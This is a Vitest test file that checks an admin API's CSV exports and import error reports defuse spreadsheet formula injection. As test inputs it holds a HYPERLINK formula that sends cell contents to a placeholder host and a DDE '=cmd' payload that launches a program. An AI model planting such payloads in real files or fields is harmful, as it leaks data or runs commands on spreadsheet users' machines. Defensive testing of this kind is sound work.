import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { createTestContext, type TestContext } from './helper.ts';
import { createLedgerFixture } from './ledger-fixtures.ts';

/**
 * Issue 30, M5: what our CSV files carry never reaches Excel as a formula — a customer's name in the
 * customers export, a hostile column header echoed by an import's error report.
 */
describe('formulas in the CSV files we write', () => {
  let ctx: TestContext;
  let token: string;
  const csvOf = (body: string) => parse(body, { delimiter: ';', bom: true, record_delimiter: '\r\n', relax_column_count: true }) as string[][];

  beforeAll(async () => {
    ctx = await createTestContext();
    token = await ctx.tokenFor('admin@demo.test');
  });
  afterAll(async () => ctx?.close());

  it("exports a customer named like a formula with a leading ', and keeps negative points as numbers", async () => {
    const hostile = '=HYPERLINK("http://x?"&A1,"Click")';
    const created = await ctx.request({ method: 'POST', url: '/api/admin/customers', token, payload: { firstName: '@SUM(1+1)', lastName: hostile } });
    expect(created.statusCode, created.body).toBe(201);
    const exported = await ctx.request({ method: 'GET', url: `/api/admin/customers/export.csv?q=${encodeURIComponent(created.json().cardNumber)}`, token });
    expect(exported.statusCode).toBe(200);
    const [header, row] = csvOf(exported.body);
    expect(row![header!.indexOf('Cognome')]).toBe(`'${hostile}`);
    expect(row![header!.indexOf('Nome')]).toBe("'@SUM(1+1)");

    const fx = await createLedgerFixture(ctx.app.db, { customers: 1 });
    const customerId = fx.customerIds[0]!;
    const adjust = (points: number) =>
      ctx.request({
        method: 'POST',
        url: '/api/admin/ledger',
        token,
        headers: { 'idempotency-key': randomUUID() },
        payload: { customerId, programId: fx.pointsProgramId, kind: 'adjust', points, reason: points > 0 ? '+bonus' : '-correzione' },
      });
    expect((await adjust(50)).statusCode).toBe(201);
    expect((await adjust(-30)).statusCode).toBe(201);
    const ledger = csvOf((await ctx.request({ method: 'GET', url: `/api/admin/ledger/export.csv?customerId=${customerId}`, token })).body);
    const points = ledger[0]!.indexOf('Punti');
    expect(ledger.slice(1).map((record) => record[points]).sort()).toEqual(['-30', '50']);
    expect(ledger.slice(1).flat()).toEqual(expect.arrayContaining(["'+bonus", "'-correzione"]));
  });

  it("writes an import's error report with the file's hostile column header neutralised", async () => {
    const hostile = '=cmd|\' /C calc\'!A0';
    const boundary = '----sf-formula-test';
    const file = `Nome;Cognome;${hostile}\r\nMario;Rossi;not-an-email\r\n`;
    const mapping = JSON.stringify({ firstName: 'Nome', lastName: 'Cognome', email: hostile });
    const payload = Buffer.from(
      `--${boundary}\r\nContent-Disposition: form-data; name="kind"\r\n\r\ncustomers\r\n` +
        `--${boundary}\r\nContent-Disposition: form-data; name="dryRun"\r\n\r\ntrue\r\n` +
        `--${boundary}\r\nContent-Disposition: form-data; name="mapping"\r\n\r\n${mapping}\r\n` +
        `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="ostile.csv"\r\nContent-Type: text/csv\r\n\r\n${file}\r\n--${boundary}--\r\n`,
    );
    const created = await ctx.request({ method: 'POST', url: '/api/admin/imports', token, payload, headers: { 'content-type': `multipart/form-data; boundary=${boundary}` } });
    expect(created.statusCode, created.body).toBe(201);
    expect(created.json().errors).toEqual([expect.objectContaining({ row: 2, column: hostile })]);
    const report = await ctx.request({ method: 'GET', url: `/api/admin/imports/${created.json().id}/errors.csv`, token });
    expect(report.statusCode).toBe(200);
    const [header, row] = csvOf(report.body);
    expect(row![header!.indexOf('Colonna')]).toBe(`'${hostile}`);
    expect(report.body).not.toMatch(/(^|;|\r\n)=cmd/);
  });
});
